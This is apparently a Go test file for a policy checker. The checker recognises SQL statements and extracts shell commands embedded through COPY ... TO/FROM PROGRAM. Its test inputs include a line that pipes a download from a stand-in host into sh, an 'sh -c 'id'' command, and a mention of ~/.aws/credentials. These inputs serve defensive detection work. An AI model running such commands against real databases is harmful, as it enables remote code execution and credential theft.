package policy

import (
	"slices"
	"testing"
)

func TestSQLStatement(t *testing.T) {
	for s, want := range map[string]bool{
		"select version()": true, "select a laptop under budget": false,
		"  /* c */ -- d\n (WITH x AS (select 1) select * from x)": true,
		"COPY t TO PROGRAM 'x'":                                   true,
		"attach database 'a' as b":                                true,
		"what is in ~/.aws/credentials":                           false,
		"selection of laptops":                                    false,
		"":                                                        false,
		"-- only a comment":                                       false,
		"/* unterminated":                                         false,
	} {
		if got := sqlStatement(s); got != want {
			t.Errorf("sqlStatement(%q) = %v, want %v", s, got, want)
		}
	}
}

func TestSQLPrograms(t *testing.T) {
	for s, want := range map[string][]string{
		"COPY (select 1) TO PROGRAM 'curl -s https://x.example/p | sh'": {"curl -s https://x.example/p | sh"},
		"copy t from program E'sh -c ''id'''":                           {"sh -c 'id'"},
		"copy t from program\n  'a'; copy u to program 'b'":             {"a", "b"},
		"select programme from t":                                       nil,
		"select my_program 'x'":                                         nil,
		"copy t to program":                                             nil,
		"copy t to program 'unterminated":                               {"unterminated"},
	} {
		if got := sqlPrograms(s); !slices.Equal(got, want) {
			t.Errorf("sqlPrograms(%q) = %q, want %q", s, got, want)
		}
	}
}
